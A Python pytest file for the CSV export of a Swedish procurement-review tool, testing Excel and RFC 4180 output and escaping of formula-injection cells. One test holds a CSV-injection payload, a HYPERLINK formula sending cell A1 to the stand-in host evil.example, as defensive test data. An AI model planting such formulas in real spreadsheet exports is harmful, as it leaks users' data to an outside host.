"""CSV output: round-trips through the csv module, opens in Swedish Excel, resists formula injection."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.test_report_html import sample_reviews
from upphandlingsgranskare.models import DocumentReview, Finding, Location
from upphandlingsgranskare.report.csv_report import COLUMNS, safe_cell, to_csv


@pytest.fixture(scope="module")
def reviews() -> list[DocumentReview]:
    wanted = ("sv-kravmatris-e-arkiv.xlsx", "sv-forfragningsunderlag-lonesystem.pdf")
    return [r for r in sample_reviews() if Path(r.path).name in wanted]


def _rows(text: str, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_excel_sv_round_trip(reviews, tmp_path):
    text = to_csv(reviews)
    assert text.startswith("\ufeff") and not text.startswith("\ufeff\ufeff")
    assert text.splitlines()[0] == "\ufeff" + ";".join(COLUMNS)
    assert text.endswith("\r\n")  # RFC 4180 record ends, as Excel writes them
    # As Excel and other readers get it: the file written as UTF-8, read back with utf-8-sig.
    path = tmp_path / "findings.csv"
    path.write_text(text, encoding="utf-8", newline="")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    findings = [(r, f) for r in reviews for f in r.findings]
    assert len(rows) == len(findings) > 0
    for row, (review, finding) in zip(rows, findings):
        assert list(row) == list(COLUMNS)
        assert row["document"] == review.path
        assert row["requirement_id"] == safe_cell(finding.requirement_id)
        assert row["requirement_text"] == safe_cell(finding.requirement_text)
        assert (row["code"], row["name"], row["severity"], row["origin"]) == (
            finding.code,
            finding.name,
            finding.severity,
            finding.origin,
        )
        assert (row["message"], row["question"], row["suggestion"]) == (
            finding.message,
            finding.question,
            finding.suggestion,
        )
        assert row["fingerprint"] == finding.fingerprint
        assert row["location"] == finding.location.describe()
        assert row["page"] == ("" if finding.location.page is None else str(finding.location.page))
        assert row["sheet"] == (finding.location.sheet or "") and row["cell"] == (finding.location.cell or "")
    assert any(r["sheet"] == "Kravmatris" and r["cell"] for r in rows)  # the XLSX rows carry their cell
    assert any(r["page"] for r in rows)  # the PDF rows their page
    assert any("ö" in r["requirement_text"] or "ä" in r["requirement_text"] for r in rows)


def test_rfc4180_dialect(reviews):
    text = to_csv(reviews, dialect="rfc4180")
    assert not text.startswith("\ufeff")
    assert text.splitlines()[0] == ",".join(COLUMNS)
    assert text.endswith("\r\n")
    rows = _rows(text, ",")
    assert [r["fingerprint"] for r in rows] == [f.fingerprint for r in reviews for f in r.findings]
    with pytest.raises(ValueError):
        to_csv(reviews, dialect="tsv")  # type: ignore[arg-type]


def _review(text: str, requirement_id: str = "K1") -> DocumentReview:
    location = Location(file="krav.xlsx", sheet="Krav", cell="B2", row=2)
    finding = Finding(
        code="UG001",
        name="feature-without-need",
        severity="warning",
        message="-- skäl; med semikolon",
        question='@fråga "citerad"',
        suggestion="+" + text,
        location=location,
        requirement_id=requirement_id,
        requirement_text=text,
        language="sv",
    )
    return DocumentReview(
        path="=krav.xlsx", format="xlsx", language="sv", requirements=(), goals=(), findings=(finding,), in_scope=1
    )


@pytest.mark.parametrize("dialect,delimiter", [("excel-sv", ";"), ("rfc4180", ",")])
def test_formula_injection_and_quoting(dialect, delimiter):
    payload = '=HYPERLINK("http://evil.example/?x="&A1;"klicka")\nrad två, med "citat"'
    text = to_csv([_review(payload, requirement_id="\tK1")], dialect=dialect)
    rows = _rows(text.lstrip("\ufeff"), delimiter)
    assert len(rows) == 1
    row = rows[0]
    # Every text cell that a spreadsheet would evaluate starts with an apostrophe instead.
    assert row["requirement_text"] == "'" + payload  # quotes, separators and newlines survive quoting
    assert row["suggestion"] == "'+" + payload
    assert row["document"] == "'=krav.xlsx"
    assert row["message"] == "'-- skäl; med semikolon"
    assert row["question"] == '\'@fråga "citerad"'
    assert row["requirement_id"] == "'\tK1"
    assert row["page"] == "" and row["cell"] == "B2"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_safe_cell():
    assert safe_cell(None) == "" and safe_cell(3) == "3" and safe_cell(-3) == "-3"  # numbers are data
    assert safe_cell("Systemet ska") == "Systemet ska"
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)" and safe_cell("\r=x") == "'\r=x"


def test_no_findings_gives_the_header_only():
    review = DocumentReview(
        path="tom.pdf", format="pdf", language="sv", requirements=(), goals=(), findings=(), error="kunde inte läsas"
    )
    assert to_csv([review], dialect="rfc4180") == ",".join(COLUMNS) + "\r\n"
